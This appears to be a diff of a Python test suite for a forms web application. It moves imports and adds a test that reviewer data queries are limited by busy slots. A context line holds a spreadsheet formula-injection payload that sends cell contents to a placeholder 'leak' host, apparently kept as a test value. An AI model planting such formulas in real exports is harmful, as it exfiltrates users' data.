@@ -18,7 +18,9 @@ from pathlib import Path
 import pytest
 from click.testing import CliRunner
 from support.data import OPEN_DAY, SELF, forms_sql, register
-from support.web import complete_self_assessment, post_answers, start_session
+from support.web import ProductClient, complete_self_assessment, post_answers, start_session
+
+from forms_app.adapters.wsgi import create_wsgi
 
 FORMULA = '=HYPERLINK("http://example.invalid/?leak="&B2,"Xem")'
 
@@ -170,9 +172,6 @@ def test_a_cluster_lead_is_refused_other_clusters_everywhere(app, lead):
 @pytest.mark.parametrize("url", ["/data/", "/data/forms/tong_quan", "/data/forms.json?sql=select+*+from+units",
                                  "/data/forms/units.csv", "/data/-/bieu-do"])
 def test_a_cluster_lead_gets_no_datasette_which_holds_every_unit(app, lead, url):
-    from support.web import ProductClient
-
-    from forms_app.adapters.wsgi import create_wsgi
 
     product = create_wsgi(app.config["DATA_DIR"], {"TESTING": True, "NOW": OPEN_DAY})
     for name in ("cum1", "vanphong"):
@@ -196,3 +195,21 @@ def test_a_recognition_recorded_on_the_web_issues_the_certificate_the_unit_then_
     assert decided.status_code == 303
     assert forms_sql(app, "SELECT COUNT(*) FROM certificates WHERE unit_code = 'TOAN'") == [(1,)]
     assert toan.get(f"/forms/{SELF}/2022/certificate.pdf").data.startswith(b"%PDF")
+
+
+def test_reviewers_queries_never_take_every_thread_units_need(app):
+    product = create_wsgi(app.config["DATA_DIR"], {"TESTING": True, "NOW": OPEN_DAY, "REVIEWER_WAIT_S": 0.2})
+    reviewer, unit = ProductClient(product), ProductClient(product)
+    start_session(product.flask_app, reviewer, "vanphong")
+    start_session(product.flask_app, unit, "toan")
+    assert reviewer.get("/data/forms/units").status_code == 200
+    slots = product.reviewer_slots
+    assert slots.acquire(blocking=False) and slots.acquire(blocking=False)  # both free again after that request
+    try:
+        busy = reviewer.get("/data/forms/units")  # every reviewer slot taken, as by two long queries
+        assert busy.status_code == 503 and "Hệ thống đang bận" in busy.get_data(as_text=True)
+        assert unit.get("/").status_code == 200  # a unit's page is served all the same
+    finally:
+        slots.release()
+        slots.release()
+    assert reviewer.get("/data/forms/units").status_code == 200
